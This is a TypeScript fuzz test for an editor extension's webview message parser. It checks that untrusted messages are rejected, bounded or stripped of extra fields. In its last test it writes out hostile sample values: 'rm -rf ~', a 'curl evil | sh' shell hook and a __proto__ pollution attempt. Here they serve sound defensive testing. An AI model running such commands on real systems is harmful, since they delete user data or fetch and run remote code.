// Fuzzing the picker's protocol (issue 13): a webview message is untrusted input, so whatever a
// compromised or buggy webview posts, parseWebviewMessage either rejects it or returns a message
// of a known type, with only that type's fields, each bounded, which parses again to itself.
// The host side in the real extension host: test/integration/fuzzPicker.test.ts.
import { strict as assert } from 'node:assert';
import * as fc from 'fast-check';
import { parseWebviewMessage, type WebviewMessage } from '../../src/core/picker/protocol';
import { FUZZ_SEED, validForm, validMessage, webviewMessages } from './fuzzInputs';

/** The fields each message type may carry, and nothing else. */
const FIELDS: Readonly<Record<WebviewMessage['type'], readonly string[]>> = {
  ready: ['type'],
  checkFile: ['type', 'folder', 'file'],
  checkAvailability: ['type', 'pin', 'python'],
  create: ['type', 'form'],
};
const FORM_FIELDS = [
  'folder',
  'file',
  'format',
  'name',
  'pin',
  'python',
  'packages',
  'extraPackages',
  'systemPackages',
  'openTerminal',
  'useInterpreter',
];
/** No string a parsed message carries is longer than this (the form's own bound). */
const MAX_STRING = 4096;

/** Every string inside a value (keys excluded). */
function strings(value: unknown): string[] {
  if (typeof value === 'string') return [value];
  if (Array.isArray(value)) return value.flatMap(strings);
  if (typeof value === 'object' && value !== null) return Object.values(value).flatMap(strings);
  return [];
}

/** The property: rejected, or a known message with only its fields, bounded, that parses again to itself. */
function checkParsed(raw: unknown): WebviewMessage | undefined {
  const before = safeJson(raw);
  const message = parseWebviewMessage(raw);
  assert.equal(safeJson(raw), before, 'the input is not modified');
  if (message === undefined) return undefined;
  assert.ok(Object.getPrototypeOf(message) === Object.prototype, 'a plain object');
  assert.deepEqual(Object.keys(message).sort(), [...FIELDS[message.type]].sort(), `only the fields of ${message.type}`);
  if (message.type === 'create') {
    assert.deepEqual(Object.keys(message.form).sort(), [...FORM_FIELDS].sort(), 'only the form’s fields');
    assert.equal(new Set(message.form.packages).size, message.form.packages.length, 'packages once each');
    assert.ok(message.form.packages.length <= 200);
    assert.equal(typeof message.form.openTerminal, 'boolean');
    assert.equal(typeof message.form.useInterpreter, 'boolean');
  }
  if (message.type === 'checkFile') assert.ok(message.file.length < 1024);
  if (message.type === 'checkAvailability') assert.match(message.python, /^3\.\d{1,2}$/);
  for (const text of strings(message)) assert.ok(text.length <= MAX_STRING, `a string of ${text.length} characters got through`);
  assert.deepEqual(JSON.parse(JSON.stringify(message)), message, 'plain data: survives JSON');
  assert.deepEqual(parseWebviewMessage(message), message, 'parses again to itself');
  return message;
}

function safeJson(value: unknown): string {
  try {
    return (
      JSON.stringify(value, (_key, v: unknown) => (typeof v === 'bigint' ? `${v}n` : v instanceof Map || v instanceof Set ? [...v] : v)) ??
      'undefined'
    );
  } catch {
    return String(value);
  }
}

describe('fuzzing the picker protocol', function () {
  this.timeout(60_000);

  it('5000 random and malformed webview messages: each rejected, or a known message with only its fields that re-validates', () => {
    const tally = { parsed: 0, rejected: 0 };
    const details = fc.check(
      fc.property(webviewMessages, (raw) => {
        if (checkParsed(raw) === undefined) tally.rejected++;
        else tally.parsed++;
      }),
      { numRuns: 5000, seed: FUZZ_SEED },
    );
    if (details.failed) {
      const shown = fc.stringify(details.counterexample);
      throw new Error(
        `counterexample: ${shown.slice(0, 1500)}\ncause: ${String((details.errorInstance as Error)?.message ?? details.errorInstance).slice(0, 1500)}`,
      );
    }
    console.log(`      messages tried: 5000 (${tally.parsed} parsed, ${tally.rejected} rejected)`);
    assert.ok(tally.parsed > 300 && tally.rejected > 3000, JSON.stringify(tally));
  });

  it('every valid message is accepted as it is', () => {
    fc.assert(
      fc.property(validMessage, (message) => {
        assert.deepEqual(checkParsed(message), message);
      }),
      { numRuns: 500, seed: FUZZ_SEED },
    );
  });

  it('every string a message carries is bounded: a 100 000-character folder, file, pin or form field is rejected', () => {
    const long = 'x'.repeat(100_000);
    const form = fc.sample(validForm, { numRuns: 1, seed: 1 })[0]!;
    for (const message of [
      { type: 'checkFile', folder: long, file: 'shell.nix' },
      { type: 'checkFile', folder: 'file:///w', file: long },
      { type: 'checkAvailability', pin: long, python: '3.12' },
      ...FORM_FIELDS.filter((key) => typeof form[key as keyof typeof form] === 'string').map((key) => ({
        type: 'create',
        form: { ...form, [key]: long },
      })),
      { type: 'create', form: { ...form, packages: [long] } },
      { type: 'create', form: { ...form, packages: Array.from({ length: 201 }, (_, i) => `p${i}`) } },
    ]) {
      assert.equal(parseWebviewMessage(message), undefined, JSON.stringify(message).slice(0, 80));
    }
  });

  it('an extra field is dropped, never passed on; a wrong type of any field rejects the message', () => {
    const extra = parseWebviewMessage({
      type: 'checkFile',
      folder: 'file:///w',
      file: 'shell.nix',
      __proto__: { evil: 1 },
      command: 'rm -rf ~',
    });
    assert.deepEqual(extra, { type: 'checkFile', folder: 'file:///w', file: 'shell.nix' });
    const formWithExtra = { ...fc.sample(validForm, { numRuns: 1, seed: 1 })[0]!, shellHook: 'curl evil | sh' };
    const create = parseWebviewMessage({ type: 'create', form: formWithExtra });
    assert.ok(create?.type === 'create' && !('shellHook' in create.form), 'no shell hook reaches the host');
    for (const key of FORM_FIELDS) {
      for (const wrong of [undefined, null, 1, {}, ['x'], 'x'.repeat(4097)]) {
        if (key === 'packages' && Array.isArray(wrong)) continue; // a list of strings is what packages is
        if (key === 'format' && wrong === undefined) continue; // a form saved before flakes: a shell.nix
        const form = { ...formWithExtra, [key]: wrong };
        assert.equal(parseWebviewMessage({ type: 'create', form }), undefined, `${key} = ${JSON.stringify(wrong)?.slice(0, 20)}`);
      }
    }
  });
});
